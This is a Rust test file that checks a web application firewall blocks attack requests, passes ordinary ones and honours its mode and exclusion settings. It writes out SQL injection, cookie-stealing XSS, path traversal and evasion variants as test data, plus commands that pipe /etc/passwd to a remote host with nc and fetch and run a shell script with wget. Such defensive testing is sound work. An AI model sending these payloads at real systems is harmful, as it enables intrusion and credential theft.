use crate::harness::client::{get, get_with, post, post_chunked};
use crate::harness::{Origin, Waf};

const SQLI: &str = "1%27%20UNION%20SELECT%20username%2C%20password%20FROM%20users--%20-";

fn attacks() -> Vec<(&'static str, Vec<u8>)> {
    let multipart = "--b\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nholiday\r\n--b\r\n\
                     Content-Disposition: form-data; name=\"note\"\r\n\r\n<script>alert(document.cookie)</script>\r\n\
                     --b--\r\n";
    let hidden =
        format!("comment={}%3Cscript%3Ealert(document.cookie)%3C/script%3E{}", "a+".repeat(3_000), "+b".repeat(3_000));
    vec![
        ("query", get(&format!("/product?id={SQLI}")).into_bytes()),
        ("doubly encoded query", get(&format!("/product?id={}", SQLI.replace('%', "%25"))).into_bytes()),
        ("path", get("/static/..%2f..%2f..%2f..%2fetc%2fpasswd").into_bytes()),
        ("referer", get_with("/", "Referer: http://x/?q=<script>alert(document.cookie)</script>\r\n").into_bytes()),
        ("user agent", get_with("/", "X-Api-Version: 1; cat /etc/passwd | nc 192.0.2.1 4444\r\n").into_bytes()),
        (
            "cookie",
            get_with("/", "Cookie: theme=dark; id=1' OR '1'='1' UNION SELECT password FROM users-- -\r\n").into_bytes(),
        ),
        ("absolute form", get(&format!("http://shop.example/product?id={SQLI}")).into_bytes()),
        (
            "path parameter",
            get("/cars;id=1'%20UNION%20SELECT%20username,%20password%20FROM%20users--%20-/all").into_bytes(),
        ),
        ("split over a parameter", get("/?q=%3Cscri&q=pt%3Ealert(document.coo&q=kie)%3C/scri&q=pt%3E").into_bytes()),
        (
            "split over a list",
            post("/api", "application/json", br#"{"q":["<scri","pt>alert(document.coo","kie)</scri","pt>"]}"#),
        ),
        ("form", post("/comments", "application/x-www-form-urlencoded", b"text=%3Cscript%3Ealert(1)%3C%2Fscript%3E")),
        (
            "json",
            post("/api/orders", "application/json", br#"{"a":[{"user":"x' UNION SELECT password FROM users-- -"}]}"#),
        ),
        ("json key", post("/api/orders", "application/json", br#"{"<script>alert(document.cookie)</script>":1}"#)),
        ("multipart", post("/upload", "multipart/form-data; boundary=b", multipart.as_bytes())),
        ("plain text", post("/note", "text/plain", b"anna; wget http://192.0.2.1/x.sh -O- | sh")),
        ("behind padding", post("/comments", "application/x-www-form-urlencoded", hidden.as_bytes())),
        (
            "malformed json",
            post("/api/orders", "application/json", br#"{"a": "x' UNION SELECT password FROM users-- -"#),
        ),
        ("body of a pretended upgrade", {
            let body = b"id=1' UNION SELECT username, password FROM users-- -";
            let head = "POST / HTTP/1.1\r\nHost: a\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\
                        Content-Type: application/x-www-form-urlencoded\r\n";
            [format!("{head}Content-Length: {}\r\n\r\n", body.len()).as_bytes(), body].concat()
        }),
        ("get with a body", {
            let body = b"id=1' UNION SELECT username, password FROM users-- -";
            let mut request = get_with(
                "/",
                &format!("Content-Length: {}\r\nContent-Type: application/x-www-form-urlencoded\r\n", body.len()),
            )
            .into_bytes();
            request.extend(body);
            request
        }),
    ]
}

#[test]
fn attacks_are_refused_wherever_they_stand_and_the_origin_sees_nothing() {
    let origin = Origin::start();
    let waf = Waf::start(&origin);
    for (name, request) in attacks() {
        let response = waf.send(request);
        assert_eq!(response.status, 403, "{name}");
        assert!(response.text().contains(response.header("x-request-id").unwrap()), "{name}");
        assert!(!response.text().contains("sql"), "no hint of the rule");
    }
    assert!(origin.seen().is_empty(), "{:?}", origin.seen());
    waf.wait_for_count("SELECT COUNT(*) FROM httplogs WHERE verdict = 'refuse'", attacks().len());
}

#[test]
fn a_chunked_attack_is_withheld_so_the_origin_gets_no_byte_of_it() {
    let origin = Origin::start();
    let waf = Waf::start(&origin);
    let body = br#"{"user":"x' UNION SELECT username, password FROM users-- -"}"#;
    assert_eq!(waf.send(post_chunked("/api/orders", "application/json", body, 7)).status, 403);
    for seen in origin.seen() {
        assert!(seen.body.is_empty() && !seen.whole, "{seen:?}");
    }
    let harmless = br#"{"user":"Anna"}"#;
    assert_eq!(waf.send(post_chunked("/api/orders", "application/json", harmless, 7)).status, 200);
    assert_eq!(origin.seen().last().unwrap().body, harmless);
}

#[test]
fn ordinary_requests_pass() {
    let origin = Origin::start();
    let waf = Waf::start(&origin);
    let form = b"name=O%27Brien&mail=anna%40example.org&text=I+don%27t+select+tables+%3B-%29+drop+by+soon%21";
    for request in [
        get("/"),
        get("/search?q=men%27s+shoes+%26+socks&page=2&sort=price"),
        get("/static/app.3f2a1c.js"),
        get_with("/", "Referer: https://www.example.org/a?b=c\r\nCookie: sid=0b1e6c4f; theme=dark; consent=yes\r\n"),
    ] {
        assert_eq!(waf.send(&request).status, 200, "{request}");
    }
    assert_eq!(waf.send(post("/comments", "application/x-www-form-urlencoded", form)).status, 200);
    let odd = post("/api/orders", "application/json", br#"{"broken": "#);
    assert_eq!(waf.send(odd).status, 200, "malformed alone is flagged, not refused");
    waf.wait_for_count("SELECT COUNT(*) FROM httplogs WHERE verdict = 'flag' AND reason = 'malformed'", 1);
}

#[test]
fn modes_hold_globally_and_by_route() {
    let origin = Origin::start();
    let sections = "[inspection]\nmode = \"detect\"\n[[route]]\npath = \"/shop/\"\nmode = \"block\"\n\
                    [[route]]\npath = \"/lab/\"\nmode = \"off\"\n";
    let waf = Waf::with(&origin, sections);
    let attack = |path: &str| waf.send(get(&format!("{path}?id={SQLI}"))).status;
    assert_eq!((attack("/x"), attack("/shop/x"), attack("/lab/x"), attack("/lab/../shop/x")), (200, 403, 200, 403));
    waf.wait_for_count("SELECT COUNT(*) FROM httplogs WHERE verdict = 'flag' AND class = 'sqli'", 1);
    waf.wait_for_count("SELECT COUNT(*) FROM httplogs WHERE verdict = 'allow' AND url LIKE '/lab/x%'", 1);
}

#[test]
fn an_excluded_parameter_is_let_through_and_no_other() {
    let origin = Origin::start();
    let sections = "[[exclusion]]\npath = \"/console/\"\nparameter = \"query\"\nclasses = [\"sqli\"]\n";
    let waf = Waf::with(&origin, sections);
    assert_eq!(waf.send(get(&format!("/console/run?query={SQLI}"))).status, 200);
    assert_eq!(waf.send(get(&format!("/console/run?other={SQLI}"))).status, 403);
    assert_eq!(waf.send(get(&format!("/shop/run?query={SQLI}"))).status, 403);
}

#[test]
fn who_asks_for_json_is_refused_in_json() {
    let origin = Origin::start();
    let waf = Waf::start(&origin);
    let request = format!("GET /product?id={SQLI} HTTP/1.1\r\nHost: shop.example\r\nAccept: application/json\r\n\r\n");
    let response = waf.send(request);
    assert_eq!(response.status, 403);
    assert_eq!(response.json()["error"]["request_id"], response.header("x-request-id").unwrap());
}
